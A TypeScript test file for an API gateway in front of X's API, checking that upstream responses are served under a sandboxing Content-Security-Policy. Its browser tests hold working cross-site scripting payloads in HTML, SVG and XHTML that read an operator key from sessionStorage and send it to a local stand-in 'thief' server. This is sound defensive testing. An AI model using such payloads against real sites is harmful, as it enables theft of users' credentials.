import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { noBrowser, startBrowser } from '../support/browser.ts';
import { openConsole } from '../support/console.ts';
import { type Simulated, startSimulated } from '../support/simulated.ts';
import { type StandIn, standIn } from '../support/stand-in.ts';

const SANDBOX = "default-src 'none'; sandbox";
const RARELY = '0 0 0 1 1 *';
const SETTINGS = { ALLOWED_OPERATIONS: '*', PUBLISH_SCHEDULE: RARELY, SEARCH_SCHEDULE: RARELY };

describe('every answer but the console’s', () => {
  let simulated: Simulated;
  before(async () => {
    simulated = await startSimulated(SETTINGS);
  });
  after(() => simulated?.stop());

  test('is sandboxed in a browser, whoever made it', async () => {
    const { url } = simulated.gateway;
    const asked: [number, string, string?][] = [
      [200, '/2/tweets/20'],
      [200, '/2/tweets/20', 'HEAD'],
      [404, '/2/tweetz'],
      [405, '/2/tweets', 'PATCH'],
      [200, '/api/status'],
      [200, '/api/health/live'],
      [200, '/api/health/ready'],
      [503, '/api/scheduled-posts'],
      [503, '/api/media/01/content'],
      [503, '/api/searches'],
      [503, '/api/updates'],
      [200, '/'],
      [200, '/admin/host/status'],
    ];
    for (const [status, path, method = 'GET'] of asked) {
      const response = await fetch(url + path, { method });
      assert.equal(response.status, status, path);
      assert.equal(response.headers.get('content-security-policy'), SANDBOX, path);
    }
    for (const path of ['/console', '/console/console.js', '/console/nothing.js']) {
      const policy = (await fetch(url + path)).headers.get('content-security-policy') ?? '';
      assert.match(policy, /^default-src 'none'; script-src 'self'; .*frame-ancestors 'none'/, path);
      assert.doesNotMatch(policy, /sandbox/);
    }
  });
});

describe('markup in X’s answers, opened in the tab that holds the operator’s key', {
  skip: noBrowser,
}, () => {
  const KEY = 'key-of-the-operator';
  let simulated: Simulated;
  let browser: Browser;
  /** Where the markup takes what it can read. */
  let thief: StandIn;
  before(async () => {
    [simulated, browser, thief] = await Promise.all([
      startSimulated(SETTINGS),
      startBrowser(),
      standIn((_request, response) => response.writeHead(204, { 'access-control-allow-origin': '*' }).end()),
    ]);
  });
  after(async () => {
    await browser?.close();
    await simulated?.stop();
    await thief?.close();
  });

  /** Runs wherever a script of the gateway's origin runs, in HTML and in XML alike. */
  const steal = (): string =>
    `document.documentElement.id = 'stolen'; new Image().src = '${thief.origin}/' + sessionStorage.getItem('operator-key');`;
  const html = (): string => `<!doctype html><script>${steal()}</script><p>markup</p>`;
  const svg = (): string => `<svg xmlns="http://www.w3.org/2000/svg"><script>${steal()}</script></svg>`;
  const xhtml = (): string =>
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${steal()}</script></body></html>`;
  const MARKUP: [string, () => string][] = [
    ['text/html', html],
    ['Text/HTML; charset=utf-8', html],
    ['application/json, text/html', html],
    ['application/xhtml+xml', xhtml],
    ['image/svg+xml', svg],
    ['IMAGE/SVG+XML; charset=utf-8', svg],
    ['application/xml', xhtml],
    ['text/xml', svg],
    ['application/rss+xml', xhtml],
    ['', html],
  ];

  async function withKey(): Promise<{ page: Page; close: () => Promise<void> }> {
    const { page, go, close } = await openConsole(browser, simulated.gateway.url);
    await go('#/health');
    await page.evaluate(`sessionStorage.setItem('operator-key', '${KEY}')`);
    return { page, close };
  }

  /** What became of the tab: whether a script ran in it, or anything was told. */
  async function assertSafe(page: Page, what: string): Promise<void> {
    assert.equal(await page.evaluate('document.documentElement.id'), '', what);
    assert.equal(await page.evaluate('origin'), 'null', what);
    await assert.rejects(page.evaluate('sessionStorage.length'), /sandbox|denied/i, what);
    assert.deepEqual(thief.received, [], what);
  }

  test('runs nothing and reads nothing, as an error or not', async () => {
    const { page, close } = await withKey();
    // X refuses the second one, in JSON; the fault puts markup in its place.
    for (const path of ['/2/tweets/20', '/2/tweets/search/recent?query=x&max_results=1']) {
      for (const [contentType, body] of MARKUP) {
        simulated.x.faults.add({ operation: '*', kind: 'content-type', contentType, body: body() });
        await page.goto(simulated.gateway.url + path);
        await assertSafe(page, `${path} as ${contentType}`);
      }
    }
    await close();
  });

  test('runs nothing where it is a download, which the tab does not open', async () => {
    const { page, close } = await withKey();
    for (const [contentType, body] of MARKUP) {
      simulated.x.faults.add({ operation: '*', kind: 'content-type', contentType, body: body() });
      await page.goto(`${simulated.gateway.url}/2/dm_conversations/media/1/2/3`).catch(() => {});
      assert.deepEqual(thief.received, [], contentType);
    }
    await close();
  });

  test('would run, and be told, were it not for the gateway', async () => {
    const page = await browser.newPage();
    const bare = await standIn((_request, response) =>
      response.writeHead(200, { 'content-type': 'image/svg+xml' }).end(svg()),
    );
    const told = page.waitForRequest((request) => request.url().startsWith(thief.origin));
    await page.goto(bare.origin);
    await told;
    await bare.close();
    await page.close();
  });
});
